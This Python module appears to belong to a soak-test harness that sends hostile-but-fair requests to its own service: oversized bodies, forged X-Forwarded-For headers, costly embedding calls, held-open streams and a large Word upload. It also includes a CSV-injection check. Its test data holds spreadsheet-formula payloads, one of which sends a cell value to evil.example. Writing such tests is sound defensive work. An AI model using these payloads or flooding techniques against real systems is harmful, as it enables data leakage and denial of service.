"""The soak's hostile callers (scripts/soak.py --hostile N): beside the normal clients, each
sends in turn what a hostile but fair caller would: a 40 MB search body, a job and a search
with a made-up X-Forwarded-For, a costly embeddings request, an /mcp event stream held open,
a document whose lines start like spreadsheet formulas (its job results are then read back as
CSV: no cell may start like a formula) and a Word file that unpacks far beyond its size.
Each outcome is recorded as ``hostile:WHAT`` with its status and error code."""

from __future__ import annotations

import csv
import io
import random
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx

FORMULA_LINES = (
    '=HYPERLINK("http://evil.example/?q="&A1,"点击")煤炭产业占工业比重下降到6.1%。\n'
    "+1+1 高新技术产业占比提高至47.7%。\n@SUM(A1:A9) 人均公园绿地面积达到18.8平方米。\n"
)
FORMULA_QUESTION = '=HYPERLINK("http://evil.example","c")煤炭产业占工业比重下降到多少'
_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _big_body(size: int = 40 * 1024 * 1024) -> Iterator[bytes]:
    """A /v1/search body of ``size`` bytes, sent in pieces (no Content-Length)."""
    yield b'{"question": "x", "history": ['
    piece = b"{}, " * 16_384
    for _ in range(size // len(piece)):
        yield piece
    yield b"{}]}"


def _bomb_docx() -> bytes:
    import docx

    document = docx.Document()
    line = "全市新建公园绿地十二处，人均公园绿地面积达到18.8平方米。" * 30
    for i in range(1500):
        document.add_paragraph(f"{i}{line}")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def formula_cells(text: str) -> int:
    """Cells of a CSV that a spreadsheet would read as a formula."""
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
    return sum(1 for row in rows for cell in row if cell.startswith(_STARTS))


def _code(reply: httpx.Response) -> str:
    try:
        error = reply.json()["error"]
        return str(error.get("data", {}).get("code") or error["code"])
    except (ValueError, KeyError, TypeError, AttributeError):
        return ""


def _wait(http: httpx.Client, job_id: str, headers: dict[str, str]) -> dict[str, Any]:
    for _ in range(600):
        job = http.get(f"/v1/jobs/{job_id}", headers=headers).json()
        if job.get("status") in ("succeeded", "failed", "cancelled", "interrupted", None):
            return dict(job)
        time.sleep(0.2)
    return dict(job)


def _attacks(http: httpx.Client, auth: dict[str, str], rng: random.Random) -> dict[str, Callable[[], tuple[int, str]]]:  # fmt: skip
    def large_body() -> tuple[int, str]:
        reply = http.post(
            "/v1/search", content=_big_body(), headers={"Content-Type": "application/json"}
        )
        return reply.status_code, _code(reply)

    def forged_job() -> tuple[int, str]:
        forged = {"X-Forwarded-For": f"198.51.100.{rng.randrange(256)}"}
        reply = http.post("/v1/jobs", json={"questions": ["煤炭"] * 2000}, headers=forged)
        return reply.status_code, _code(reply)

    def forged_search() -> tuple[int, str]:
        forged = {"X-Forwarded-For": f"203.0.113.{rng.randrange(256)}"}
        reply = http.post("/v1/search", json={"question": "煤炭依赖"}, headers=forged)
        return reply.status_code, _code(reply)

    def embeddings() -> tuple[int, str]:
        texts = ["煤炭产业" * 2000] * 256
        reply = http.post("/v1/embeddings", json={"model": "x", "input": texts})
        return reply.status_code, _code(reply)

    def mcp_stream() -> tuple[int, str]:
        with http.stream("GET", "/mcp", headers={"Accept": "text/event-stream"}) as reply:
            for _ in reply.iter_bytes():
                pass
            return reply.status_code, _code(reply) if reply.status_code >= 400 else ""

    def amplifying_upload() -> tuple[int, str]:
        files = [("files", ("bomb.docx", _bomb_docx(), "application/octet-stream"))]
        posted = http.post("/v1/documents", files=files, headers=auth)
        if posted.status_code != 202:
            return posted.status_code, _code(posted)
        job = _wait(http, posted.json()["id"], auth)
        return 200, (job.get("error") or {}).get("code", job.get("status", ""))

    return {
        "large body": large_body, "forged job": forged_job, "forged search": forged_search,
        "embeddings": embeddings, "mcp stream": mcp_stream, "amplifying upload": amplifying_upload,
    }  # fmt: skip


def formula_round_trip(http: httpx.Client, auth: dict[str, str]) -> tuple[int, str, int]:
    """Upload a formula document, ask about it in a job, read the CSV back: (status, code,
    cells that start like a formula)."""
    files = [("files", ("formula.txt", FORMULA_LINES.encode(), "text/plain"))]
    posted = http.post("/v1/documents", files=files, headers=auth)
    if posted.status_code != 202:
        return posted.status_code, _code(posted), 0
    _wait(http, posted.json()["id"], auth)
    made = http.post("/v1/jobs", json={"questions": [FORMULA_QUESTION]}, headers=auth)
    if made.status_code != 202:
        return made.status_code, _code(made), 0
    _wait(http, made.json()["id"], auth)
    results = http.get(f"/v1/jobs/{made.json()['id']}/results?format=csv", headers=auth)
    return results.status_code, _code(results), formula_cells(results.text)


def hostile(
    url: str, seed: int, auth: dict[str, str], until: float,
    record: Callable[[str, float, float, int, str], None], formulas: list[int],
) -> None:  # fmt: skip
    """Send the attacks in turn until ``until``; ``record(kind, started, seconds, status,
    code)`` each outcome, and the formula cells found to ``formulas``."""
    rng = random.Random(seed)
    with httpx.Client(base_url=url, timeout=120) as http:
        started = time.monotonic()
        try:
            status, code, cells = formula_round_trip(http, auth)
        except (httpx.HTTPError, ValueError) as exc:
            status, code, cells = 0, type(exc).__name__, 0
        formulas.append(cells)
        record("hostile:formula document", started, time.monotonic() - started, status, code)
        attacks = list(_attacks(http, auth, rng).items())
        while time.monotonic() < until:
            name, attack = rng.choice(attacks)
            started = time.monotonic()
            try:
                status, code = attack()
            except (httpx.HTTPError, ValueError) as exc:
                status, code = 0, type(exc).__name__
            record(f"hostile:{name}", started, time.monotonic() - started, status, code)
